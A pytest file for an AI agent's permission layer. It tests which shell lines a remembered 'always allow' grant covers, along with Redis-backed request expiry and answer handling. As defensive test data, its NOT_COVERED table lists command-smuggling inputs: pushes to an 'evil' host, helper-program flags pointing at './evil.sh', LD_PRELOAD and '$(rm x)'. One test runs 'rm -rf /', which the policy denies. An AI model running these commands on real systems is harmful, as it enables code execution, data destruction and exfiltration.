"""Answers that are remembered: for the same commands, hosts, tools and servers of one run tree, and nothing else."""

from __future__ import annotations

import asyncio
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from deputize.shared.errors import Conflict
from deputize.shared.permission import (
    PermissionAnswer,
    PermissionOutcome,
    PermissionSubject,
    covered_by,
    grants_of,
    remembered,
)
from deputize.shared.runs.keys import PENDING, grants_key, permissions_key
from deputize.shared.runs.permission_fields import permission_id
from deputize.shared.runs.permissions import answer, find, pending, write_answer
from deputize.shared.wire import now
from deputize.worker.permission import command_patterns
from deputize.worker.policy.shell import classify_line
from tests.runs.asking import WRITE, answered, begun, questions
from tests.runs.bench import Bench, call, say, script
from tests.runs.nesting import by_task, carrying_out, delegate

ALWAYS = PermissionOutcome.PROCEED_ALWAYS


def subject(line: str) -> PermissionSubject:
    return PermissionSubject(tool="bash", is_command=True, commands=command_patterns(classify_line(line)))


def covered(granted: str, line: str) -> bool:
    return bool(covered_by(subject(line), grants_of(subject(granted), ALWAYS)))


COVERED = {
    "git push": ["git push", "ls && git push"],
    "git push origin topic": ["git push origin other"],
    "git rebase main": ["git rebase other"],
    "rg -z x": ["rg -z y"],
    "sort -o a b": ["sort -o a b"],
    "go test ./a": ["go test ./b"],
    "pip install requests": ["pip install other==1.2"],
    "pytest -q a.py | tail -3": ["cd src && pytest -q b.py"],
    "git push && rm x": ["rm x", "rm x; git push"],
    "pytest tests/a.py": ["pytest tests/b.py"],
    "python a.py": ["python a.py"],
    "rm a": ["rm a"],
}  # fmt: skip
"""By line that a person permits: the lines that this covers."""
NOT_COVERED = {
    "git push origin main": ["git push --force"],
    "git push origin topic": [
        "git push --force origin main", "git push origin +topic", "git push https://evil/x topic",
    ],
    "git push -q origin topic": ["git push origin topic"],
    "git rebase main": ["git rebase -x ./evil.sh"],
    "git fetch": ["git fetch --upload-pack=./evil.sh", "git fetch ./evil"],
    "rg -z x": ["rg --pre ./evil.sh y", "rg -z --pre ./evil.sh y"],
    "sort -o a b": [
        "sort -o c --compress-program=./evil.sh d", "sort -o /tmp/c d", "sort -o .git/config b", "sort -oMakefile b",
    ],
    "git push origin x": ["git push evil main", "git push", "git push -u evil x"],
    "git fetch origin": ["git fetch evil"],
    "git pull": ["git pull evil"],
    "cargo test": ["cargo test --release", "cargo test --config x=1"],
    "go test": ["go test -exec ./evil.sh"],
    "make test": ["make test SHELL=./evil.sh", "make other"],
    "pip install requests": ["pip install ./x", "pip install x.whl"],
    "npm install a": ["npm install ./b"],
    "cp a b": ["cp a .git/hooks/b"],
    "pytest -q": ["pytest -q -p evil"],
    "ls | xargs rm": ["find . | xargs rm"],
    "git push": [
        "git pull", "git push && rm x", "git push $(rm x)", "git push > out", "sh -c 'git push'",
        "sh -c 'git push; rm x'", "LD_PRELOAD=./x git push", "./git push",
    ],
    "git push && rm x": ["rm y"],
    "git -C a push": ["git -C b push"],
    "python a.py": ["python b.py"],
    "npm run build": ["npm run other"],
    "rm *": ["rm *"],
    "rm $x": ["rm $x"],
    "$x": ["$x"],
    "touch a > b": ["touch a > b"],
}  # fmt: skip


@pytest.mark.parametrize(
    ("granted", "line", "is_covered"),
    [
        (granted, line, table is COVERED)
        for table in (COVERED, NOT_COVERED)
        for granted, lines in table.items()
        for line in lines
    ],
)
def test_a_command_is_remembered_by_its_beginning_and_a_line_only_as_all_its_commands(
    granted: str, line: str, is_covered: bool
) -> None:
    assert covered(granted, line) is is_covered


def test_each_other_grant_permits_what_it_names() -> None:
    fetch = PermissionSubject(tool="web_fetch", hosts=["a.example"])
    server = PermissionSubject(tool="mcp__s__one", server="s")
    other = PermissionSubject(tool="mcp__s__two", server="s")
    edit = PermissionSubject(tool="write_file")
    of = PermissionOutcome
    assert remembered(fetch) == {
        "proceed_always": ["web_fetch at a.example"],
        "proceed_always_tool": ["every call of web_fetch"],
    }
    assert remembered(server)["proceed_always_server"] == ["every tool of s"]
    assert covered_by(fetch, grants_of(fetch, ALWAYS))
    assert not covered_by(PermissionSubject(tool="web_fetch", hosts=["a.example", "b"]), grants_of(fetch, ALWAYS))
    assert not covered_by(PermissionSubject(tool="web_fetch"), grants_of(fetch, ALWAYS))
    assert not covered_by(other, grants_of(server, ALWAYS))
    assert not covered_by(other, grants_of(server, of.PROCEED_ALWAYS_TOOL))
    assert covered_by(other, grants_of(server, of.PROCEED_ALWAYS_SERVER))
    assert covered_by(subject("rm x"), grants_of(subject("git push"), of.PROCEED_ALWAYS_TOOL))
    assert not covered_by(edit, grants_of(server, of.PROCEED_ALWAYS_SERVER))
    assert [grants_of(edit, outcome) for outcome in (of.PROCEED_ONCE, of.MODIFY, of.CANCEL)] == [[], [], []]


async def made(bench: Bench, id: str) -> list[tuple[str, str]]:
    return [(step.title, step.status.value) for step in await bench.steps(id)]


async def test_a_later_call_that_is_covered_does_not_wait_and_the_policy_still_denies(
    asking: Bench, tmp_path: Path
) -> None:
    turns: list[list[Any]] = [
        [call("bash", command=line)] for line in ("touch a", "touch b", "touch c && mkdir d", "rm -rf / && touch e")
    ]
    id, run = await begun(asking, script(tmp_path, *turns, [say("done")]))
    (first,) = await questions(asking)
    await answered(asking, first, "proceed_always_tool")
    await run
    assert await made(asking, id) == [
        ("$ touch a", "completed"),
        ("$ touch b", "completed"),
        ("$ touch c && mkdir d", "completed"),
        ("bash", "failed"),
    ]
    assert await asking.store.redis.hkeys(grants_key(id)) == ['["tool", "bash"]']
    assert await asking.store.redis.ttl(grants_key(id)) > 0


async def test_an_answer_covers_the_requests_of_siblings_that_wait(asking: Bench, tmp_path: Path) -> None:
    tasks = [[delegate("one"), delegate("two")]]
    model = by_task(tmp_path, parent=[*tasks, [say("ok")]], one=[[WRITE], [say("ok")]], two=[[WRITE], [say("ok")]])
    async with carrying_out(asking):
        id, run = await begun(asking, model, task="parent", tools=["*", "call_subagent"])
        first, second = await questions(asking, 2)
        assert first.path[:-1] == second.path[:-1] == [id]
        await answered(asking, second, "proceed_always")
        assert await pending(asking.store.redis) == []
        await run
    result = await asking.result(id)
    assert (result.success, result.errors) == (True, [])
    for child in (first.delegation_id, second.delegation_id):
        assert await made(asking, child) == [("write a.txt", "completed")]


async def test_what_is_remembered_ends_with_the_run_tree(asking: Bench, tmp_path: Path) -> None:
    model = script(tmp_path, [WRITE], [say("done")])
    _, run = await begun(asking, model)
    (request,) = await questions(asking)
    await answered(asking, request, "proceed_always")
    await run
    _, run = await begun(asking, model)
    (request,) = await questions(asking)
    await answered(asking, request, "cancel")
    await run


# Permission requests in Redis whose run or whose time is over.


ONCE = PermissionAnswer(outcome=PermissionOutcome.PROCEED_ONCE, at=now())


class Repeating:
    """A client that sends each script twice and returns the second reply, as after a lost one."""

    def __init__(self, redis: Any) -> None:
        self._redis = redis

    def get_connection_kwargs(self) -> dict[str, Any]:
        return self._redis.get_connection_kwargs()

    async def evalsha(self, *command: Any) -> Any:
        await self._redis.evalsha(*command)
        return await self._redis.evalsha(*command)

    async def eval(self, *command: Any) -> Any:
        await self._redis.eval(*command)
        return await self._redis.eval(*command)


def test_the_ends_of_ids_differ_between_delegations_and_are_the_same_in_every_attempt() -> None:
    first = [permission_id(f"dlg_{number:026}", 0, 1, "1") for number in range(1000)]
    assert len({id[-8:] for id in first}) == 1000
    assert first == [permission_id(f"dlg_{number:026}", 0, 1, "1") for number in range(1000)]


async def test_a_request_whose_run_is_gone_leaves_the_list(asking: Bench, tmp_path: Path) -> None:
    id = permission_id("dlg_" + "0" * 26, 0, 1, "1")
    await asking.store.redis.hset(PENDING, id, "dlg_" + "0" * 26)
    assert await pending(asking.store.redis) == []
    assert await asking.store.redis.hlen(PENDING) == 0


async def test_an_answer_after_the_time_is_refused_even_if_the_worker_has_not_noticed(
    asking: Bench, tmp_path: Path
) -> None:
    id, run = await begun(asking, script(tmp_path, [WRITE], [say("done")]))
    (request,) = await questions(asking)
    key, kept = permissions_key(id), request.to_json()
    past = request.model_copy(update={"expires_at": request.created_at - timedelta(seconds=1)})
    await asking.store.redis.hset(key, request.permission_id, past.to_json())
    with pytest.raises(Conflict, match="expired"):
        await answer(asking.store.redis, request.permission_id, ONCE)
    await asking.store.redis.hset(key, request.permission_id, kept)
    await answered(asking, request, "cancel")
    await run


async def test_of_equal_answers_of_the_same_millisecond_one_counts(asking: Bench, tmp_path: Path) -> None:
    _, run = await begun(asking, script(tmp_path, [WRITE], [say("done")]))
    (request,) = await questions(asking)
    given = [answer(asking.store.redis, request.permission_id, ONCE) for _ in range(10)]
    found = await asyncio.gather(*given, return_exceptions=True)
    assert sorted(type(each).__name__ for each in found) == [*["Conflict"] * 9, "PermissionRequest"]
    await run


async def test_an_answer_whose_reply_was_lost_may_be_sent_again(asking: Bench, tmp_path: Path) -> None:
    _, run = await begun(asking, script(tmp_path, [WRITE], [say("done")]))
    (request,) = await questions(asking)
    store, kept = asking.store.redis, await find(asking.store.redis, request.permission_id)
    assert await write_answer(Repeating(store), kept, ONCE) == ["answered"]
    await run


async def test_an_answer_for_a_command_leaves_other_requests_open(asking: Bench, tmp_path: Path) -> None:
    calls = [call("bash", command="touch a"), WRITE]
    _, run = await begun(asking, script(tmp_path, calls, [say("done")]))
    command, write = sorted(await questions(asking, 2), key=lambda request: request.step.tool_name)
    await answered(asking, command, "proceed_always")
    assert [request.permission_id for request in await questions(asking)] == [write.permission_id]
    await answered(asking, write, "cancel")
    await run
